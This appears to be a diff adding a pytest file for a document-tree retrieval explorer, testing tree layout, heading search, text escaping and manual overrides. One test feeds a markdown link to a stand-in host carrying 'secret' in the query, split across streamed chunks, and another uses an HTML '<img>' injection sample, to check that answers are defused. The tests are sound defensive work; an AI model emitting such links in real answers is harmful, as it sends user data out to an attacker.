@@ -1,0 +1,160 @@
+"""The explorer's pure helpers: tree layout and collapsing, text safety, tables, override."""
+
+from __future__ import annotations
+
+import itertools
+import re
+
+import pytest
+
+from pages import state
+from pages import widgets as w
+from treerag_core.config import IndexSettings
+from treerag_core.embedders import get_embedder
+from treerag_core.index import SourceDocument, build_index
+from treerag_core.types import LocatedLeaf, LocateResult
+
+
+def big_markdown(chapters: int = 16, sections: int = 5, items: int = 2) -> str:
+    """A handbook-like document: 16 chapters × 5 sections × 2 items (300+ nodes)."""
+    parts = ["# Handbook\n"]
+    for c in range(1, chapters + 1):
+        parts.append(f"## Chapter {c}\n\nChapter {c} covers topic {c}.\n")
+        for s in range(1, sections + 1):
+            parts.append(f"### Section {c}.{s}\n\nSection {c}.{s} explains rule {c}-{s}.\n")
+            for i in range(1, items + 1):
+                parts.append(f"#### Item {c}.{s}.{i}\n\nItem text {c}.{s}.{i} with detail.\n")
+    return "\n".join(parts)
+
+
+@pytest.fixture(scope="module")
+def big_index():
+    settings = IndexSettings(embedder="hashing", max_depth=4)
+    return build_index(
+        [SourceDocument("handbook.md", big_markdown())], settings, get_embedder("hashing")
+    )
+
+
+def _overlaps(view: w.GraphView) -> list[tuple[str, str]]:
+    by_row: dict[int, list[tuple[int, str]]] = {}
+    for node in view.nodes:
+        by_row.setdefault(node["y"], []).append((node["x"], node["id"]))
+    bad = []
+    for row in by_row.values():
+        row.sort()
+        for (x1, a), (x2, b) in itertools.pairwise(row):
+            if x2 - x1 < w.SLOT_PX - 1:
+                bad.append((a, b))
+    return bad
+
+
+def test_big_tree_collapses_to_a_legible_view(big_index):
+    assert len(big_index.nodes) > 250
+    view = w.graph_view(big_index, ["handbook.md"], w.GraphMarks())
+    assert len(view.nodes) <= 1 + w.SIBLING_CAP + 1  # root, capped chapters, "+N more"
+    assert view.hidden, "nothing is marked as collapsed"
+    assert any(n["id"].startswith(w.MORE_PREFIX) for n in view.nodes)
+    full = w.graph_view(big_index, ["handbook.md"], w.GraphMarks(), full=True)
+    assert len(full.nodes) == len(big_index.nodes)
+    assert not _overlaps(full) and not _overlaps(view)
+
+
+def test_picked_leaf_deep_in_the_tree_is_drawn_with_its_path(big_index):
+    leaf = next(n for n in big_index.leaves() if n.heading == "Item 15.4.2")
+    view = w.graph_view(big_index, ["handbook.md"], w.GraphMarks(picked=frozenset({leaf.node_id})))
+    drawn = {n["id"]: n for n in view.nodes}
+    assert leaf.node_id in drawn
+    for ancestor in big_index.ancestors(leaf.node_id):
+        assert ancestor in drawn
+        assert drawn[ancestor]["color"]["background"] in (w.PALETTE["path"],)
+    assert drawn[leaf.node_id]["color"]["background"] == w.PALETTE["picked"]
+    # Chapter 15 is beyond the sibling cap, yet shown because it is on the path.
+    assert any("Chapter 15" in n["label"] for n in view.nodes)
+    assert len(view.nodes) < 40
+    path_edges = [e for e in view.edges if e["color"] == w.PALETTE["edge_path"]]
+    assert len(path_edges) == len(big_index.ancestors(leaf.node_id))
+
+
+def test_tidy_layout_centres_parents_and_never_overlaps():
+    children = {"r": ["a", "b", "c"], "a": ["a1", "a2"], "c": ["c1", "c2", "c3"]}
+    slots = w.tidy_layout(children, ["r"])
+    assert slots["a"][0] == (slots["a1"][0] + slots["a2"][0]) / 2
+    assert slots["r"][0] == (slots["a"][0] + slots["c"][0]) / 2
+    assert {d for _, d in slots.values()} == {0, 1, 2}
+    rows: dict[int, list[float]] = {}
+    for x, depth in slots.values():
+        rows.setdefault(depth, []).append(x)
+    for xs in rows.values():
+        xs.sort()
+        assert all(b - a >= 1 for a, b in itertools.pairwise(xs))
+    assert min(x for x, _ in slots.values()) == 0
+
+
+def test_heading_search(big_index):
+    matches = w.heading_matches(big_index, ["handbook.md"], "item 3.2.")
+    assert len(matches) == 2  # Item 3.2.1 and 3.2.2
+    view = w.graph_view(big_index, ["handbook.md"], w.GraphMarks(matches=frozenset(matches)))
+    colours = {n["id"]: n["color"]["background"] for n in view.nodes}
+    assert all(colours[m] == w.PALETTE["match"] for m in matches)
+
+
+def test_plain_escapes_markdown_and_html():
+    text = "**bold** [x](http://e) <img src=x> $math$ :red[x] # h"
+    escaped = w.plain(text)
+    assert re.search(r"(?<!\\)[*\[\]()<>$:#]", escaped) is None
+    assert re.sub(r"\\(.)", r"\1", escaped) == text
+
+
+def test_answer_images_are_defused_even_across_deltas():
+    deltas = ["See the chart !", "[chart](http://evil.example/q?x=secret) and ", "![b](u)"]
+    out = "".join(w.safe_answer_stream(deltas))
+    assert "![" not in out.replace("!\\[", "")
+    assert out.replace("\\", "") == "".join(deltas)
+    assert "".join(w.safe_answer_stream(["[1] a\n[2] b"])) == "[1] a  \n[2] b"
+
+
+def test_rank_change_arrows():
+    assert w.rank_change(5, 2) == "↑3"
+    assert w.rank_change(1, 4) == "↓3"
+    assert w.rank_change(2, 2) == "="
+
+
+def test_override_keeps_sub_queries_and_rejects_non_leaves(big_index):
+    leaves = [n for n in big_index.leaves()][:3]
+    previous = LocateResult(
+        (LocatedLeaf(leaves[0].node_id, leaves[0].heading_path, "refined", 0.9, "llm"),),
+        "because",
+        "llm",
+    )
+    new = state.override_locate(
+        big_index, previous, "question", [leaves[0].node_id, leaves[1].node_id]
+    )
+    assert [leaf.sub_query for leaf in new.leaves] == ["refined", "question"]
+    assert [leaf.source for leaf in new.leaves] == ["llm", "manual"]
+    assert new.locator == "llm+manual" and new.usage.input_tokens == 0
+    assert f"added {leaves[1].node_id}" in new.thinking
+    root = next(n for n in big_index.nodes.values() if n.is_root)
+    with pytest.raises(ValueError, match="not a leaf"):
+        state.override_locate(big_index, previous, "q", [root.node_id])
+    with pytest.raises(ValueError, match="at least one"):
+        state.override_locate(big_index, previous, "q", [])
+
+
+def test_merge_sources_replaces_same_name():
+    old = [SourceDocument("a.md", "# A\n\nold"), SourceDocument("b.md", "# B\n\nb")]
+    merged, replaced = state.merge_sources(old, [SourceDocument("a.md", "# A\n\nnew")])
+    assert [(s.name, s.text) for s in merged] == [("b.md", "# B\n\nb"), ("a.md", "# A\n\nnew")]
+    assert replaced == ["a.md"]
+
+
+def test_sample_paths_skip_the_readme_and_put_the_seed_paper_first():
+    names = [p.name for p in state.sample_paths()]
+    assert "README.md" not in names
+    assert names[0] == "test_paper.md"
+
+
+def test_the_app_uses_the_real_default_embedder_unless_told(monkeypatch):
+    monkeypatch.delenv("TREERAG_EMBEDDER", raising=False)
+    assert state.default_embedder() == IndexSettings().embedder == "multilingual"
+    monkeypatch.setenv("TREERAG_EMBEDDER", "hashing")
+    assert state.default_embedder() == "hashing"
